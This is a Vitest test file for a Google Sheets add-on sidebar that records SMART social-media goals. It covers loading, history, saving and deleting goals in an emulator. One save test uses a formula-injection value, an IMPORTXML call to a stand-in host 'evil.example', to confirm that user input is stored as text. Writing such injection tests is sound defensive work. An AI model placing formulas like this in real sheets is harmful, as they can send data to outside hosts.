import { readFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  type BundleContext,
  createEmulator,
  type Emulator,
  loadBundle,
  pasteCsv,
  runFromSidebar,
  runGlobal,
  snapshotSheet,
} from '../../emulator';
import { parseCsv } from '../../src/core/csv';
import type { SidebarGoalInput } from '../../src/core/goals/schema';
import type {
  DeleteResult,
  HistoryResponse,
  SaveResult,
  SidebarState,
} from '../../src/core/sidebar/transport';
import { GOALS_HEADER, goalColumnsBesides, shownValues, TIKTOK_GOAL, TIKTOK_ROW } from '../helpers/goals';
import { sampleText } from '../helpers/samples';
import { SAMPLE_TABS } from './harness';

/** The sidebar's endpoints as the sidebar reaches them: the built Code.js, called with google.script.run's rules. */

const codePath = path.join(path.dirname(fileURLToPath(import.meta.url)), '..', '..', 'build', 'Code.js');

interface World {
  readonly emulator: Emulator;
  readonly context: BundleContext;
  call<T>(name: string, ...args: unknown[]): T;
}

function world(options: { userLocale?: string; samples?: boolean; locale?: string } = {}): World {
  const emulator = createEmulator({
    locale: options.locale ?? 'en_US',
    timeZone: 'Atlantic/Reykjavik',
    userLocale: options.userLocale,
  });
  if (options.samples ?? true)
    for (const [tab, file] of SAMPLE_TABS)
      pasteCsv(emulator.spreadsheet.insertSheet(tab), sampleText(file), { split: true });
  const context = loadBundle(codePath, emulator);
  return {
    emulator,
    context,
    call: (name, ...args) => runFromSidebar(emulator, context, name, ...args) as never,
  };
}

const goal = TIKTOK_GOAL;
const rows = (emulator: Emulator, tab: string) => shownValues(emulator, tab)!;

const dataTabs = (emulator: Emulator) => SAMPLE_TABS.map(([tab]) => snapshotSheet(emulator.sheet(tab)));

beforeAll(() => {
  // The bundle must exist: npm test builds first.
  expect(() => loadBundle(codePath, createEmulator())).not.toThrow();
});

describe('the menu item', () => {
  it('opens the sidebar from "Set SMART goals", titled in the user\'s language', () => {
    for (const [userLocale, caption, title] of [
      ['en', 'Set SMART goals', 'SMART goals'],
      ['is', 'Setja SMART markmið', 'SMART markmið'],
    ] as const) {
      const { emulator, context } = world({ userLocale, samples: false });
      runGlobal(emulator, context, 'onOpen', { authMode: 'NONE' });
      expect(emulator.ui.addonMenu?.items).toContainEqual(
        expect.objectContaining({ caption, functionName: 'showSidebar' }),
      );
      runGlobal(emulator, context, 'showSidebar');
      expect(emulator.ui.sidebar).toMatchObject({ type: 'sidebar', title });
      expect(emulator.ui.sidebar?.content).toBe(
        readFileSync(path.join(path.dirname(codePath), 'sidebar.html'), 'utf8'),
      );
    }
  });
});

describe('build/sidebar.html', () => {
  // Its size against the 80 KB target is a benchmark figure (`npm run bench`), not a test.
  it('is one self-contained page', () => {
    const html = readFileSync(path.join(path.dirname(codePath), 'sidebar.html'), 'utf8');
    console.log(`build/sidebar.html: ${Buffer.byteLength(html)} bytes`);
    expect(html).not.toMatch(/<script[^>]+src=/i);
    // Only Google's add-on stylesheet is linked; the page's own CSS and JS are inline.
    expect(html.match(/<link[^>]*>/g)).toEqual([
      '<link rel="stylesheet" href="https://ssl.gstatic.com/docs/script/css/add-ons1.css">',
    ]);
    expect(html.match(/<script>/g)).toHaveLength(1);
    expect(html.match(/<\/script>/g)).toHaveLength(1);
    expect(html.match(/<style>/g)).toHaveLength(1);
  });
});

describe('sidebarLoad', () => {
  it("sends the user's locale, the goals and what the pasted data holds", () => {
    const { call } = world({ userLocale: 'is' });
    const state = call<SidebarState>('sidebarLoad');
    // The page carries its own strings in both languages: the locale picks one.
    expect(Object.keys(state).sort()).toEqual(['catalogue', 'goals', 'locale', 'platforms', 'today']);
    expect(state.locale).toBe('is');
    expect(state.today).toMatch(/^\d{4}-\d{2}-\d{2}$/);
    expect(state.goals).toEqual({ rows: [], problem: '' });
    const platforms = Object.fromEntries(state.platforms.map((p) => [p.platform, p.metrics]));
    expect(Object.keys(platforms)).toEqual(
      expect.arrayContaining(['LinkedIn', 'X', 'TikTok', 'Instagram', 'GA4', 'YouTube', 'Facebook']),
    );
    expect(platforms.TikTok).toEqual(expect.arrayContaining(['followers', 'video views', 'likes']));
    // X has engagements and impressions, so its engagement rate can be built.
    expect(platforms.X).toEqual(expect.arrayContaining(['impressions', 'engagements', 'engagement rate']));
    expect(state.catalogue.metrics).toContainEqual({ name: 'bounce rate', kind: 'ratio' });
    expect(state.catalogue.platforms[0]).toBe('LinkedIn');
  });
});

describe('sidebarHistory', () => {
  it('gives the baseline the Progress tab would take and the level history', () => {
    const { call } = world();
    const response = call<HistoryResponse>('sidebarHistory', {
      platform: 'TikTok',
      metric: 'followers',
      start: '2026-09-01',
      deadline: '2027-02-28',
    });
    // tiktok_follower_history.csv: "September 1","13734".
    expect(response).toMatchObject({ kind: 'level', baseline: 13734 });
    expect(response.history.dates[0]).toBe('2026-07-01');
    expect(response.history.dates.at(-1)).toBe('2026-10-31');
    expect(response.history.values[0]).toBe(12078); // "July 1","12078"
  });

  it('gives counts as running totals from 0 and no baseline without a start date', () => {
    const { call } = world();
    const response = call<HistoryResponse>('sidebarHistory', {
      platform: 'X',
      metric: 'impressions',
      start: '',
      deadline: '',
    });
    const total = parseCsv(sampleText('x_account_overview.csv'))
      .slice(1)
      .reduce((sum, row) => sum + Number(row[1]!.replace(/,/g, '')), 0);
    expect(response.kind).toBe('count');
    expect(response.baseline).toBeNull();
    expect(response.history.values.at(-1)).toBe(total);
    expect(response.history.dates).toEqual([...response.history.dates].sort());
  });

  it('answers an unknown metric with nothing rather than failing', () => {
    const { call } = world();
    expect(
      call('sidebarHistory', { platform: 'X', metric: 'happiness', start: '2026-09-01', deadline: '' }),
    ).toEqual({
      kind: null,
      baseline: null,
      history: { dates: [], values: [] },
    });
  });
});

describe('sidebarSaveGoal', () => {
  it('creates the Goals tab with its header, appends the row and touches no other tab', () => {
    const { emulator, call } = world();
    const before = dataTabs(emulator);
    const result = call<SaveResult>('sidebarSaveGoal', { row: null, expectedGoal: null, goal });
    expect(result).toMatchObject({ ok: true, row: 2 });
    expect(rows(emulator, 'Goals')).toEqual([GOALS_HEADER, TIKTOK_ROW]);
    expect(result.ok && result.goals.rows.map((r) => r.goal?.goal)).toEqual(['Grow TikTok followers']);
    expect(dataTabs(emulator)).toEqual(before);
    const second = call<SaveResult>('sidebarSaveGoal', {
      row: null,
      expectedGoal: null,
      goal: { ...goal, goal: 'Second', baseline: null },
    });
    expect(second).toMatchObject({ ok: true, row: 3 });
    expect(rows(emulator, 'Goals')[2]![4]).toBe(''); // a blank baseline stays blank
  });

  it('validates again on the server and writes nothing when the goal is wrong', () => {
    const { emulator, call } = world();
    const result = call<SaveResult>('sidebarSaveGoal', {
      row: null,
      expectedGoal: null,
      goal: { ...goal, target: '', deadline: '2026-08-01' },
    });
    expect(result).toMatchObject({ ok: false, problem: null });
    expect(!result.ok && result.errors.map((e) => [e.field, e.code])).toEqual([
      ['target', 'required'],
      ['deadline', 'notAfterStart'],
    ]);
    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).not.toContain('Goals');
  });

  it('writes what the user typed as text, never as a formula', () => {
    const { emulator, call } = world({ samples: false });
    const name = '=IMPORTXML("http://evil.example","//a")';
    call('sidebarSaveGoal', {
      row: null,
      expectedGoal: null,
      goal: { ...goal, goal: name, businessObjective: '+1 more sales' },
    });
    const sheet = emulator.sheet('Goals');
    expect(
      sheet
        .getRange('A2:J2')
        .getFormulas()[0]!
        .every((f) => f === ''),
    ).toBe(true);
    expect(sheet.getRange('A2').getValue()).toBe(name);
    expect(sheet.getRange('J2').getValue()).toBe('+1 more sales');
  });

  it('keeps text that looks like a date, number or boolean as text, and writes real dates and numbers', () => {
    const { emulator, call } = world({ samples: false, locale: 'is_IS' });
    const result = call<SaveResult>('sidebarSaveGoal', {
      row: null,
      expectedGoal: null,
      goal: { ...goal, goal: '2026-07-01', platform: 'TRUE', metric: '1,5', businessObjective: "'quoted" },
    });
    const values = emulator.sheet('Goals').getRange('A2:J2').getValues()[0]!;
    expect(values.slice(0, 4)).toEqual(['2026-07-01', 'Brand awareness', 'TRUE', '1,5']);
    expect(values[9]).toBe("'quoted");
    expect(values.slice(4, 6)).toEqual([13734, 20000]);
    // Midnight in Reykjavik, which keeps UTC all year; shown in the Icelandic day-first style.
    expect(values.slice(6, 8).map((v) => (v as Date).toISOString())).toEqual([
      '2026-09-01T00:00:00.000Z',
      '2027-02-28T00:00:00.000Z',
    ]);
    const dates = emulator.sheet('Goals').getRange('G2:H2');
    expect(dates.getNumberFormats()).toEqual([['d.m.yyyy', 'd.m.yyyy']]);
    expect(dates.getDisplayValues()).toEqual([['1.9.2026', '28.2.2027']]);
    // Read back, the goal is the one saved.
    expect(result.ok && result.goals.rows[0]!.goal).toEqual({
      ...goal,
      goal: '2026-07-01',
      platform: 'TRUE',
      metric: '1,5',
      businessObjective: "'quoted",
    });
  });

  it("updates a row in place, keeping the user's own columns and formulas", () => {
    const { emulator, call } = world({ samples: false });
    const sheet = emulator.spreadsheet.insertSheet('Goals');
    pasteCsv(sheet, sampleText('goals.csv'), { split: true });
    sheet.getRange('K1').setValue('Owner');
    sheet.getRange('K3').setFormula('=UPPER("anna")');
    sheet.getRange('G3').setNumberFormat('d mmm yyyy');
    sheet.getRange('L1:M1').setValues([['Code', 'Remark']]);
    sheet.getRange('L3:M3').setValues([["'007", "'=not a formula"]]);
    const state = call<SidebarState>('sidebarLoad');
    const row3 = state.goals.rows.find((r) => r.row === 3)!;
    expect(row3.goal?.goal).toBe('1.5M X impressions by year end');
    const edited = {
      ...row3.goal!,
      category: 'Brand awareness',
      target: 1_600_000,
      businessObjective: 'Launch awareness',
    } as SidebarGoalInput;
    const result = call<SaveResult>('sidebarSaveGoal', {
      row: 3,
      expectedGoal: row3.goal!.goal,
      goal: edited,
    });
    expect(result).toMatchObject({ ok: true, row: 3 });
    expect(rows(emulator, 'Goals')[2]!.slice(0, 10)).toEqual([
      '1.5M X impressions by year end',
      'Brand awareness',
      'X',
      'impressions',
      '',
      1600000,
      '2026-07-01',
      '2026-12-31',
      'Linear',
      'Launch awareness',
    ]);
    expect(sheet.getRange('K3').getFormula()).toBe('=UPPER("anna")');
    expect(sheet.getRange('G3').getDisplayValue()).toBe('1 Jul 2026'); // the user's own date format stays
    expect(sheet.getRange('L3:M3').getValues()).toEqual([['007', '=not a formula']]); // text stays text
    expect(sheet.getRange('M3').getFormula()).toBe('');
    expect(emulator.sheet('Goals').getLastRow()).toBe(6);
  });

  it('refuses to overwrite a row that no longer holds the goal the sidebar showed', () => {
    const { emulator, call } = world({ samples: false });
    const sheet = emulator.spreadsheet.insertSheet('Goals');
    pasteCsv(sheet, sampleText('goals.csv'), { split: true });
    const before = snapshotSheet(sheet);
    const result = call<SaveResult>('sidebarSaveGoal', {
      row: 3,
      expectedGoal: 'Double LinkedIn followers in six months',
      goal,
    });
    expect(result).toMatchObject({ ok: false, problem: 'changed' });
    expect(!result.ok && result.goals?.rows).toHaveLength(5); // the fresh list, for the sidebar to show
    expect(snapshotSheet(sheet)).toEqual(before);
  });

  it("adds missing goal columns after the user's own, and leaves a tab that is not a goals table alone", () => {
    const { emulator, call } = world({ samples: false });
    const goals = emulator.spreadsheet.insertSheet('Goals');
    goals.getRange('A1:D1').setValues([['Goal', 'Metric', 'Target', 'Notes']]);
    call('sidebarSaveGoal', { row: null, expectedGoal: null, goal });
    const [header, row] = rows(emulator, 'Goals');
    expect(header).toEqual([
      'Goal',
      'Metric',
      'Target',
      'Notes',
      ...goalColumnsBesides('Goal', 'Metric', 'Target'),
    ]);
    expect(row).toEqual([
      'Grow TikTok followers',
      'followers',
      20000,
      '',
      'Brand awareness',
      'TikTok',
      13734,
      '2026-09-01',
      '2027-02-28',
      'Linear',
      'Reach younger buyers',
    ]);

    const other = world({ samples: false });
    const notes = other.emulator.spreadsheet.insertSheet('goals');
    notes.getRange('A1').setValue('Ideas for next year');
    const before = snapshotSheet(notes);
    expect(other.call('sidebarSaveGoal', { row: null, expectedGoal: null, goal })).toMatchObject({
      ok: false,
      problem: 'goalsTab',
    });
    expect(snapshotSheet(notes)).toEqual(before);
  });

  it('takes the document lock: while another process holds it, nothing is written', () => {
    const { emulator, call } = world({ samples: false });
    const release = emulator.holdLockElsewhere('document');
    expect(call('sidebarSaveGoal', { row: null, expectedGoal: null, goal })).toMatchObject({
      ok: false,
      problem: 'busy',
    });
    expect(emulator.spreadsheet.getSheets().map((s) => s.getName())).not.toContain('Goals');
    release();
    expect(call('sidebarSaveGoal', { row: null, expectedGoal: null, goal })).toMatchObject({ ok: true });
    expect(emulator.calls.byMethod['LockService.getDocumentLock']).toBeGreaterThan(0);
  });

  it('rejects requests that break the contract', () => {
    const { call } = world({ samples: false });
    expect(() => call('sidebarSaveGoal', { row: 'two', expectedGoal: null, goal })).toThrow(
      /does not understand/,
    );
    // google.script.run itself refuses a Date anywhere in the arguments.
    expect(() =>
      call('sidebarSaveGoal', { row: null, expectedGoal: null, goal: { ...goal, start: new Date() } }),
    ).toThrow(/Date/);
  });
});

describe('sidebarDeleteGoal', () => {
  it('deletes the row it was shown, and nothing else', () => {
    const { emulator, call } = world({ samples: false });
    const sheet = emulator.spreadsheet.insertSheet('Goals');
    pasteCsv(sheet, sampleText('goals.csv'), { split: true });
    const wrong = call<DeleteResult>('sidebarDeleteGoal', {
      row: 2,
      expectedGoal: 'Instagram engagement rate to 6%',
    });
    expect(wrong).toMatchObject({ ok: false, problem: 'changed' });
    expect(sheet.getLastRow()).toBe(6);
    const result = call<DeleteResult>('sidebarDeleteGoal', {
      row: 4,
      expectedGoal: 'Instagram engagement rate to 6%',
    });
    expect(result.ok && result.goals.rows.map((r) => r.goal?.goal)).toEqual([
      'Double LinkedIn followers in six months',
      '1.5M X impressions by year end',
      '2,000 web conversions from social',
      'TikTok followers to 20,000',
    ]);
    expect(sheet.getLastRow()).toBe(5);
  });
});
